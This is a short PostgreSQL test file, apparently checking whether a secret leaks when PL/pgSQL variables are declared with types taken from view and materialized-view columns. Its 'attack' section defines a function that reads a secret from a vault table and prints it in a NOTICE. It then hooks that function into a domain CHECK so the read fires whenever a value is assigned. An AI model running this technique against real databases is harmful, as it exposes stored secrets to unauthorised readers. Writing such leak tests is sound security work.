-- Declares variables of columns of views, whose type is a domain that tells what it reads.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE));
CREATE TABLE quiet (a int, b told);
CREATE VIEW quiet_view AS SELECT b AS c FROM quiet;
CREATE MATERIALIZED VIEW quiet_copy AS SELECT c FROM quiet_view;
CREATE VIEW quiet_rows AS SELECT q AS r FROM quiet q;
DO $$ DECLARE v quiet_view.c%TYPE; BEGIN v := 'x'; END $$;
DO $$ DECLARE v quiet_copy.c%TYPE; BEGIN v := 'x'; END $$;
DO $$ DECLARE v quiet_copy; BEGIN v.c := 'x'; END $$;
DO $$ DECLARE v quiet_rows.r%TYPE; BEGIN v.b := 'x'; END $$;
DO $$ DECLARE v quiet_rows%ROWTYPE; BEGIN v.r.b := 'x'; END $$;
